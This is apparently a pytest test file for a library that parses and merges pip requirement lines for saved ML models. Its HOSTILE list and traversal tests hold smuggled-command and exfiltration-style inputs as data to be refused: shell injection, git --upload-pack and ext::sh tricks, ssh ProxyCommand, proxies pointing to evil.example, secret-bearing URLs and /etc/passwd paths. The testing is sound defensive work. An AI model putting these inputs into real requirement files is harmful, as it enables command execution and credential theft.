"""Requirement lines: what is allowed, how they are merged, and what `save_model`'s arguments make of them."""

from __future__ import annotations

import contextlib
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.specifiers import SpecifierSet
from packaging.version import Version

from millstream.environments.lines import parse, parse_file
from millstream.environments.merging import is_satisfiable, merge
from millstream.environments.requirements import Requirements
from millstream.errors import ExclusiveArguments, InvalidRequirement, InvalidValue, RequirementConflict
from millstream.version import VERSION

WRITER = f"# millstream=={VERSION}"
OWN = (WRITER, "mlflow>=3,<4")
HASH = "sha256:" + "0f" * 32


def texts(*lines: str, **options: object) -> list[str]:
    return [line.text for line in merge(parse(lines, **options).lines)]


@pytest.mark.parametrize(
    ("line", "written"),
    [
        ("numpy", "numpy"),
        ("numpy == 2.1  # why", "numpy==2.1"),
        ("PyYAML [x,a] >= 6 , <7 ; python_version<'3.12'", 'PyYAML[a,x]>=6,<7; python_version < "3.12"'),
        ("torch==2.13.0+cpu", "torch==2.13.0+cpu"),
        ("a @ https://h/x-1.0.whl ; python_version>'3'", 'a @ https://h/x-1.0.whl ; python_version > "3"'),
        ("git+https://github.com/a/b@v1#egg=foo", "git+https://github.com/a/b@v1#egg=foo"),
        ("git+ssh://git@github.com/a/b.git@main", "git+ssh://git@github.com/a/b.git@main"),
        ("a @ git+ssh://git@github.com/a/b.git@main", "a @ git+ssh://git@github.com/a/b.git@main"),
        ("./wheels/foo-1.0-py3-none-any.whl", "./wheels/foo-1.0-py3-none-any.whl"),
        ("-e git+https://h/r#egg=q", "git+https://h/r#egg=q"),
        ("--editable=./here", "./here"),
        ("-i https://x/simple", "--index-url https://x/simple"),
        (
            "--extra-index-url=https://download.pytorch.org/whl/cpu",
            "--extra-index-url https://download.pytorch.org/whl/cpu",
        ),
        ("--no-binary :all:", "--no-binary :all:"),
        ("--pre", "--pre"),
        (f"a==1 --hash={HASH}", f"a==1 --hash={HASH}"),
    ],
)
def test_what_pip_reads_is_read(line: str, written: str) -> None:
    assert texts(line) == [written]


def test_comments_blank_lines_and_continued_lines_are_understood() -> None:
    lines = ["# all", "", "a==1 \\", f"    --hash={HASH}", "  b  ", "./c#egg=d # but this", "e \\"]
    assert texts(*lines) == [f"a==1 --hash={HASH}", "b", "./c#egg=d", "e"]


HOSTILE = [
    "--trusted-host evil.example",
    "--config-settings=--build-option=x",
    "--global-option=x",
    "--install-option=--prefix=/",
    "--target=/usr/lib/python3",
    "--root /",
    "--prefix=/usr",
    "--python /bin/sh",
    "--proxy http://evil.example",
    "--log /etc/passwd",
    "--cert x",
    "--index-url",
    "--index-url=-x",
    "-i ftp://evil.example/simple",
    "--find-links ext::sh",
    "--use-feature=fast-deps",
    "-",
    "--",
    "-x",
    "six --target=/usr",
    "six==1 --global-option=x",
    "six -r other.txt",
    "six; import os",
    "six && touch canary",
    "$(touch canary)",
    "`touch canary`",
    "six\x00",
    "six\x1b[2J",
    "six\nevil",
    "six\u2028evil",
    "git+ext::sh -c touch% canary",
    "git+ext::sh%20-c%20touch",
    "ext::sh -c x",
    "git+https://host/r@--upload-pack=touch canary",
    "git+https://host/r@--upload-pack=x",
    "git+https://host/r@%2D%2Dupload-pack=x",
    "git+ssh://-oProxyCommand=x/r",
    "git+ssh://-x@host/r",
    "git+https://host/r#egg=x&subdirectory=../../etc",
    "hg+file:///repo",
    "git+https:///nohost",
    "https://host:port/x.whl",
    "https://user:secret@host/x.whl",
    "https://secret@host/x.whl",
    "https://host/${AWS_SECRET_ACCESS_KEY}/x.whl",
    "--extra-index-url https://${TOKEN}@host/simple",
    "a @ javascript:alert(1)",
    "a @ file:x",
    "data:text/plain,x",
    "~/x.whl",
    "C:\\x\\y.whl",
    "..\\x.whl",
    "a==1 --hash=md5:00",
    "a==1 --hash=sha256:zz",
    "a=1",
    "a" * 5000,
    "a" + " " * 90_000 + "b",
    "a; " + "(" * 3000,
    "a" + ",".join(f">={n}" for n in range(100)),
    "\u202ea==1",
    "-e " * 1300 + "six",
    "-e --target=/",
    "https://user:secret@host/x.whl\x00",
    "a @ ftp://user:secret@host/x.whl",
]


@pytest.mark.parametrize("line", HOSTILE)
@pytest.mark.parametrize("within", [False, True])
def test_a_hostile_line_is_refused(line: str, within: bool, tmp_path: Path) -> None:
    with pytest.raises(InvalidRequirement) as caught:
        parse([line], within=tmp_path if within else None)
    assert "secret" not in caught.value.message


def test_there_are_enough_hostile_lines() -> None:
    assert len(set(HOSTILE)) >= 50


@pytest.mark.parametrize(
    "line",
    [
        "/etc/x.whl", "file:///etc/x.whl", "a @ file:///etc/x.whl", "git+file:///home/r", "--find-links file:///tmp", "-i file:///srv/simple", "../x.whl", "wheels/../../x.whl",
        "link.whl", "-r /etc/passwd", "-r ../outside.txt", "-c link.txt", "-r https://h/r.txt", "-r missing.txt",
    ],
)  # fmt: skip
def test_a_file_of_somebody_elses_model_leads_nowhere_outside_of_it(line: str, tmp_path: Path) -> None:
    root = tmp_path / "model"
    root.mkdir()
    (tmp_path / "outside.txt").write_text("six\n")
    (tmp_path / "x.whl").write_text("")
    (root / "link.txt").symlink_to(tmp_path / "outside.txt")
    (root / "link.whl").symlink_to(tmp_path / "x.whl")
    with pytest.raises(InvalidRequirement):
        parse([line], folder=root, within=root)


def test_a_wheel_inside_of_the_model_may_be_named(tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    (tmp_path / "wheels" / "own-1.0-py3-none-any.whl").write_text("")
    line = parse(["wheels/own-1.0-py3-none-any.whl"], folder=tmp_path, within=tmp_path).lines[0]
    assert (line.kind, line.name) == ("file", "own")


def test_files_of_requirements_and_constraints_are_followed(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "requirements.txt").write_text("-r sub/more.txt\n-c constraints.txt\nsix\n")
    (tmp_path / "sub" / "more.txt").write_text("-r deep.txt\nattrs\n")
    (tmp_path / "sub" / "deep.txt").write_text("idna==3\n")
    (tmp_path / "constraints.txt").write_text("-r sub/deep.txt\nurllib3<3\n")
    parsed = parse_file(tmp_path / "requirements.txt")
    assert [line.text for line in parsed.lines] == ["idna==3", "attrs", "six"]
    assert [line.text for line in parsed.constraints] == ["idna==3", "urllib3<3"]
    assert parsed.lines[0].origin == "deep.txt, line 1"


def test_files_that_include_each_other_end(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("-r b.txt\n")
    (tmp_path / "b.txt").write_text("-r a.txt\n")
    with pytest.raises(InvalidRequirement, match="include each other"):
        parse_file(tmp_path / "a.txt")


def test_files_that_multiply_end(tmp_path: Path) -> None:
    for number in range(9):
        (tmp_path / f"{number}.txt").write_text(f"-r {number + 1}.txt\n" * 50)
    (tmp_path / "9.txt").write_text("six\n")
    with pytest.raises(InvalidRequirement, match="more than 100 files"):
        parse_file(tmp_path / "0.txt")


def test_a_file_that_is_no_text_or_too_large_is_refused(tmp_path: Path) -> None:
    (tmp_path / "binary.txt").write_bytes(b"\xff\xfe\x00x")
    (tmp_path / "large.txt").write_bytes(b"#" * (5 << 20))
    for name in ("binary.txt", "large.txt"):
        with pytest.raises(InvalidRequirement):
            parse_file(tmp_path / name)


def test_lines_of_one_distribution_become_one() -> None:
    assert texts("numpy>=1.20", "six", "NumPy[x]<3", "numpy [y]") == ["numpy[x,y]>=1.20,<3", "six"]
    assert texts("numpy==2.1", "numpy>=1") == ["numpy==2.1"]
    assert texts("numpy", "numpy @ https://h/numpy-2-py3-none-any.whl") == [
        "numpy @ https://h/numpy-2-py3-none-any.whl"
    ]
    assert texts("./numpy-2.0-py3-none-any.whl", "numpy") == ["./numpy-2.0-py3-none-any.whl"]
    assert texts("a; python_version<'3'", "a==2; python_version>='3'") == [
        'a; python_version < "3"',
        'a==2; python_version >= "3"',
    ]


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("numpy==1.0", "numpy==2.0"),
        ("numpy<1", "numpy>=1"),
        ("numpy==1.*", "numpy>=2"),
        ("numpy>=1,<2", "numpy!=1.*"),
        ("numpy~=1.4", "numpy<1.4"),
        ("numpy==2", "numpy @ https://h/numpy-2-py3-none-any.whl"),
        ("numpy @ https://h/a.whl", "numpy @ https://h/b.whl"),
        ("numpy===weird", "numpy==1"),
    ],
)
def test_a_contradiction_names_both_lines_and_where_they_are_from(first: str, second: str) -> None:
    lines = parse([first], "defaults").lines + parse([second], "yours").lines
    with pytest.raises(RequirementConflict) as caught:
        merge(lines)
    assert "defaults, line 1" in caught.value.message
    assert "yours, line 1" in caught.value.message


versions = st.builds(
    "{}.{}{}".format, st.integers(0, 3), st.integers(0, 3), st.sampled_from(["", "", ".1", "rc1", ".post1"])
)
specifiers = st.one_of(
    st.builds("{}{}".format, st.sampled_from(["==", "!=", ">=", "<=", ">", "<", "~="]), versions),
    st.builds("{}{}.*".format, st.sampled_from(["==", "!="]), st.integers(0, 3)),
)
GRID = [Version(f"{a}.{b}{c}") for a in range(5) for b in range(5) for c in ("", ".1", ".2", "rc1", ".post1", ".post2")]


@given(st.lists(specifiers, min_size=1, max_size=4))
def test_what_some_version_satisfies_is_never_called_a_contradiction(parts: list[str]) -> None:
    specifier = SpecifierSet(",".join(parts))
    if any(specifier.contains(version, prereleases=True) for version in GRID):
        assert is_satisfiable(specifier)


@given(st.lists(st.lists(specifiers, max_size=2), min_size=1, max_size=4))
def test_merged_lines_allow_just_what_all_of_them_allow(all_parts: list[list[str]]) -> None:
    lines = [f"pkg{','.join(parts)}" for parts in all_parts]
    together = SpecifierSet(",".join(part for parts in all_parts for part in parts))
    try:
        merged = texts(*lines)
    except RequirementConflict:
        assert not any(together.contains(version, prereleases=True) for version in GRID)
        return
    assert len(merged) == 1
    specifier = Requirement(merged[0]).specifier
    for version in GRID:
        assert specifier.contains(version, prereleases=True) == together.contains(version, prereleases=True)
    assert texts(*merged) == merged


@given(st.text(min_size=1, max_size=60))
def test_any_text_is_read_or_refused_and_reads_the_same_again(text: str) -> None:
    try:
        once = parse([text]).lines
    except InvalidRequirement:
        return
    again = parse([line.text for line in once]).lines
    assert [line.text for line in again] == [line.text for line in once]
    assert not any("\n" in line.text or (line.text.startswith("-") and line.kind != "option") for line in once)


def test_hostile_lengths_take_no_time() -> None:
    began = time.perf_counter()
    for line in ("six" + " " * 200_000 + "#", "six" + " --hash" * 10_000, "#" * 200_000, "six" + "\t " * 50_000 + "x"):
        with contextlib.suppress(InvalidRequirement):
            parse([line])
    with pytest.raises(InvalidRequirement, match="more than 50 versions"):
        merge(parse([f"six!={n}" for n in range(5_000)]).lines)
    assert time.perf_counter() - began < 5


def test_nothing_given_is_what_was_inferred_below_our_own_lines() -> None:
    assert Requirements.resolve(inferred=["numpy==2.0", "scipy==1.0"]).lines == (*OWN, "numpy==2.0", "scipy==1.0")


def test_what_is_inferred_is_only_asked_for_when_it_is_used() -> None:
    def never() -> list[str]:
        raise AssertionError

    assert Requirements.resolve(pip_requirements=["six"], inferred=never).lines == (*OWN, "six")
    assert Requirements.resolve(conda_env={"dependencies": ["pip", {"pip": ["six"]}]}, inferred=never).lines == (
        *OWN,
        "six",
    )
    assert Requirements.resolve(extra_pip_requirements=["six"], inferred=lambda: ["numpy"]).lines == (
        *OWN,
        "numpy",
        "six",
    )


def test_a_line_for_mlflow_or_millstream_of_the_users_own_is_kept() -> None:
    assert Requirements.resolve(pip_requirements=["six", "mlflow-skinny==3.1"]).lines == (
        WRITER,
        "six",
        "mlflow-skinny==3.1",
    )
    assert Requirements.resolve(pip_requirements=["millstream"]).lines == (*OWN, "millstream")


def test_extra_requirements_are_merged_with_the_inferred_ones() -> None:
    made = Requirements.resolve(
        extra_pip_requirements=["numpy>1", "b @ https://h/b.whl"], inferred=["numpy==2", "b==1"]
    )
    assert made.lines == (*OWN, "numpy==2", "b @ https://h/b.whl")
    with pytest.raises(RequirementConflict, match="extra_pip_requirements, line 1"):
        Requirements.resolve(extra_pip_requirements=["numpy<2"], inferred=["numpy==2"])


def test_files_may_be_given_by_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("requirements.txt").write_text("six==1.17.0\n-c limits.txt\n")
    Path("limits.txt").write_text("idna<4\n")
    Path("conda.yaml").write_text("dependencies: [python=3.11, pip, {pip: [six]}]\n")
    made = Requirements.resolve(pip_requirements="requirements.txt")
    assert (made.lines, made.constraints) == ((*OWN, "six==1.17.0"), ("idna<4",))
    assert Requirements.resolve(pip_requirements=["-r requirements.txt", "attrs"]).lines == (
        *OWN,
        "six==1.17.0",
        "attrs",
    )
    assert Requirements.resolve(conda_env="conda.yaml").lines == (*OWN, "six")


def test_the_three_arguments_exclude_each_other_with_the_error_that_mlflow_raises() -> None:
    with pytest.raises(ValueError, match="at most one of conda_env, pip_requirements") as caught:
        Requirements.resolve(conda_env={}, pip_requirements=[])
    assert isinstance(caught.value, ExclusiveArguments)


@pytest.mark.parametrize(
    "conda",
    [
        {"dependencies": "six"},
        {"dependencies": [{"pip": "six"}]},
        {"dependencies": [{"npm": ["x"]}]},
        {"dependencies": [3]},
    ],
)
def test_a_malformed_conda_environment_is_refused(conda: dict[str, object]) -> None:
    with pytest.raises(InvalidValue):
        Requirements.resolve(conda_env=conda)
